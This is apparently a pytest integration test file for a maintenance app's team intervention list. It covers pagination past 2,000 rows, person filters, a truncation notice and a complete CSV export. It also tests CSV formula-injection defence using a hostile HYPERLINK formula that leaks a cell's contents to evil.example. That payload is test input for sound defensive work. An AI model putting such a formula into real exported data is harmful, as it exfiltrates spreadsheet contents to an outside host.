"""The team's list and its CSV export at scale and against hostile text: every filter applied
before the page's limit (a person's interventions never lost behind someone else's), the page
saying when it shows only the first rows, the export holding every matching row, and text that
a spreadsheet would run as a formula exported inert.

Team A (Maintenance): Marc manages, Sophie and Samuel are staff. Now is Monday 30 November
2026, 10:00 in Paris."""

from __future__ import annotations

import csv
import io
import uuid as uuidlib
from datetime import datetime, timedelta

import pytest

from server.clock import to_db
from server.db import Database
from server.interventions.routes import TEAM_PAGE_ROWS
from tests.conftest import Client, Company
from tests.integration.intervention_helpers import create, sync_ok
from tests.integration.schedule_helpers import Browsers, page_text, paris, parse

PAGE_NOTICE = "Seules les 2 000 premières interventions sont affichées"


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def linked(html: str) -> list[str]:
    """The interventions the page links to, in page order."""
    hrefs = [a.attrs.get("href") or "" for a in parse(html).find_all("a")]
    return [h.removeprefix("/interventions/") for h in hrefs if h.count("-") == 4]


def insert_many(
    database: Database, user_id: int, team_id: int, first_start: datetime, n: int
) -> None:
    """n half-hour interventions of one person, a minute apart, straight into the table (the
    sync endpoint is tested elsewhere; here only the volume matters)."""
    stamp = to_db(first_start + timedelta(days=1))
    rows = []
    for k in range(n):
        start = first_start + timedelta(minutes=k)
        end = start + timedelta(minutes=30)
        rows.append(
            (str(uuidlib.uuid4()), user_id, team_id, to_db(start), to_db(end), "Atelier", stamp)
        )
    with database.write():
        database.executemany(
            "INSERT INTO interventions (uuid, user_id, team_id, started_at, ended_at, place, "
            "mode, outcome, client_changed_at, server_changed_at, created_at, updated_at) "
            "VALUES (?, ?, ?, ?, ?, ?, 'on_site', 'resolved', ?7, ?7, ?7, ?7)",
            rows,
        )


@pytest.fixture
def marc(company: Company, browsers: Browsers) -> Client:
    return browsers("manager.a@test.fr")


@pytest.fixture
def crowded(company: Company, browsers: Browsers, database: Database) -> list[str]:
    """Samuel's 2,100 interventions from 27 November on, newer than Sophie's three of the 20th:
    without her filter, Sophie's are all past the page's first 2,000."""
    assert TEAM_PAGE_ROWS < 2100
    insert_many(database, company.staff_a2.id, company.team_a.id, paris(2026, 11, 27, 0), 2100)
    sophies = [
        create(started_at=paris(2026, 11, 20, h), ended_at=paris(2026, 11, 20, h, 45))
        for h in (1, 3, 5)
    ]
    sync_ok(browsers("staff.a@test.fr"), *sophies)
    return [op["uuid"] for op in reversed(sophies)]  # newest first, as the list shows them


def test_a_person_filtered_shows_all_their_interventions_past_the_page_limit(
    marc: Client, company: Company, crowded: list[str]
) -> None:
    page = marc.get(f"/interventions/team?person={company.staff_a.id}")
    assert page.status_code == 200
    assert linked(page.text) == crowded
    assert PAGE_NOTICE not in page_text(page.text)


def test_the_unfiltered_page_says_it_shows_only_the_first_rows(
    marc: Client, crowded: list[str]
) -> None:
    page = marc.get("/interventions/team")
    shown = linked(page.text)
    assert len(shown) == TEAM_PAGE_ROWS
    assert not set(crowded) & set(shown)  # Sophie's, the oldest, are past the limit
    text = page_text(page.text)
    assert PAGE_NOTICE in text and "exportez-les toutes en CSV" in text


def test_the_csv_export_holds_every_matching_row(
    marc: Client, company: Company, crowded: list[str]
) -> None:
    everything = csv_rows(marc.get("/interventions/team?format=csv"))
    assert len(everything) == 2100 + 3
    assert [r["uuid"] for r in everything[-3:]] == crowded
    sophies = csv_rows(marc.get(f"/interventions/team?format=csv&person={company.staff_a.id}"))
    assert [r["uuid"] for r in sophies] == crowded
    assert {r["person"] for r in sophies} == {"Sophie Staff"}


def test_a_short_list_has_no_notice(marc: Client, browsers: Browsers) -> None:
    sync_ok(browsers("staff.a@test.fr"), create())
    page = marc.get("/interventions/team")
    assert len(linked(page.text)) == 1
    assert PAGE_NOTICE not in page_text(page.text)


# Formula injection --------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir le plan")'


@pytest.mark.parametrize(
    "typed",
    [HOSTILE, "+33 6 12 34 56 78", "-2+3", "@SUM(A1:A9)"],
    ids=["equals", "plus", "minus", "at"],
)
def test_text_a_spreadsheet_would_run_is_exported_inert(
    typed: str, marc: Client, browsers: Browsers
) -> None:
    sync_ok(browsers("staff.a@test.fr"), create(place=typed, found=typed, done=typed))
    [exported] = csv_rows(marc.get("/interventions/team?format=csv"))
    # A leading quote: the spreadsheet shows the text as typed and runs nothing.
    assert (exported["place"], exported["found"], exported["done"]) == ("'" + typed,) * 3


def test_ordinary_text_is_exported_unchanged(marc: Client, browsers: Browsers) -> None:
    sync_ok(
        browsers("staff.a@test.fr"), create(place="Bâtiment C = chaufferie", found="2-3 fuites")
    )
    [exported] = csv_rows(marc.get("/interventions/team?format=csv"))
    assert (exported["place"], exported["found"]) == ("Bâtiment C = chaufferie", "2-3 fuites")


def test_a_person_named_like_a_formula_is_exported_inert(
    marc: Client, browsers: Browsers, database: Database, company: Company
) -> None:
    with database.write():
        database.execute("UPDATE users SET name = ? WHERE id = ?", ("=1+1", company.staff_a.id))
    sync_ok(browsers("staff.a@test.fr"), create())
    [exported] = csv_rows(marc.get("/interventions/team?format=csv"))
    assert exported["person"] == "'=1+1"


def test_the_team_list_shows_hostile_text_as_text(marc: Client, browsers: Browsers) -> None:
    """On the page the place is shown as typed (the HTML is escaped; nothing there is run)."""
    sync_ok(browsers("staff.a@test.fr"), create(place=HOSTILE))
    page = marc.get("/interventions/team")
    assert HOSTILE in page_text(page.text)
    assert parse(page.text).find("a", href="http://evil.example/?leak=") is None
